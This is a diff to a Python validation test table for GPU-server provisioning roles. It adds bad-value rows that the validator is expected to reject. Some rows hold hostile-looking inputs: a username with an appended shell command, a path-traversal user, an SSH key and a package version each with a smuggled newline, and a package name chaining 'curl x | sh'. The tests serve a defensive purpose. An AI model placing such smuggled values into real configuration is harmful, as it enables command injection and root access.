@@ -21,6 +21,8 @@ FP = "EB693B3035CD5710E231E123A4B469963BF863CC"
 REPO = {"third_party_repo_name": "x", "third_party_repo_uri": "https://example.invalid/r/",
         "third_party_repo_key_url": "https://example.invalid/k.asc", "third_party_repo_fingerprints": [FP]}
 FOUR = {"gpu_rig_hardware": {"gpu_count": 4}, "gpu_power_apply_now": False}
+KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAICfh0+m41ttYcqpdIQFTrRUzCl6zrb8yRUSa/ei48m4Z admin@example"
+ADMIN = {"bootstrap_admin_ssh_public_keys": [KEY]}
 
 # (role, bad values, what the message must name)
 TABLE: list[tuple[str, dict, str]] = [
@@ -78,8 +80,14 @@ TABLE: list[tuple[str, dict, str]] = [
     ("cuda_toolkit", {"cuda_toolkit_default": "12"}, "cuda_toolkit_default"),
     ("cuda_toolkit", {"cuda_toolkit_verify_archs": ["sm_86"]}, "cuda_toolkit_verify_archs[0]"),
     ("cuda_toolkit", {"cuda_toolkit_cuda_repo_url": "https://x.invalid/a b"}, "cuda_toolkit_cuda_repo_url"),
+    ("cuda_toolkit", {"cuda_toolkit_package_versions": {"cuda-toolkit-12-8": "latest"}},
+     "cuda_toolkit_package_versions"),
+    ("cuda_toolkit", {"cuda_toolkit_package_versions": {"cuda-toolkit-12-8 cuda": "12.8.1-1"}},
+     "cuda_toolkit_package_versions"),
     # container_engine
     ("container_engine", {"container_engine_engine": "lxd"}, "container_engine_engine"),
+    ("container_engine", {"container_engine_docker_package_versions": {"docker.io": "26.1.5\nPackage: *"}},
+     "container_engine_docker_package_versions"),
     ("container_engine", {"container_engine_docker_source": "snap"}, "container_engine_docker_source"),
     ("container_engine", {"container_engine_docker_users": "alice"}, "container_engine_docker_users"),
     ("container_engine", {"container_engine_docker_users": ["Alice Smith"]}, "container_engine_docker_users[0]"),
@@ -124,6 +132,18 @@ TABLE: list[tuple[str, dict, str]] = [
     ("gpu_health", {"gpu_health_report_dir": "reports"}, "gpu_health_report_dir"),
     ("gpu_health", {"gpu_health_expected_gpu_count": -2}, "gpu_health_expected_gpu_count"),
     ("gpu_health", {"gpu_rig_hardware": {"memory_gb": [128]}}, "memory_gb"),
+    # bootstrap
+    ("bootstrap", {"bootstrap_admin_ssh_public_keys": []}, "bootstrap_admin_ssh_public_keys"),
+    ("bootstrap", {"bootstrap_admin_ssh_public_keys": [KEY + "\nPermitRootLogin yes"]},
+     "bootstrap_admin_ssh_public_keys[0]"),
+    ("bootstrap", {"bootstrap_admin_ssh_public_keys": ["my laptop key"]}, "bootstrap_admin_ssh_public_keys[0]"),
+    ("bootstrap", {"bootstrap_admin_ssh_public_keys": KEY}, "bootstrap_admin_ssh_public_keys"),
+    ("bootstrap", {**ADMIN, "bootstrap_admin_user": "admin; id"}, "bootstrap_admin_user"),
+    ("bootstrap", {**ADMIN, "bootstrap_initial_user": "../root"}, "bootstrap_initial_user"),
+    ("bootstrap", {**ADMIN, "bootstrap_hostname": "gpu_node01"}, "bootstrap_hostname"),
+    ("bootstrap", {**ADMIN, "bootstrap_hostname": "-node"}, "bootstrap_hostname"),
+    ("bootstrap", {**ADMIN, "bootstrap_sshd_permit_root_login": "yes"}, "bootstrap_sshd_permit_root_login"),
+    ("bootstrap", {**ADMIN, "bootstrap_python_packages": ["python3 && curl x | sh"]}, "bootstrap_python_packages[0]"),
     # memory_health
     ("memory_health", {"memory_health_ce_threshold": "some"}, "memory_health_ce_threshold"),
     ("memory_health", {"memory_health_ce_threshold": -1}, "memory_health_ce_threshold"),
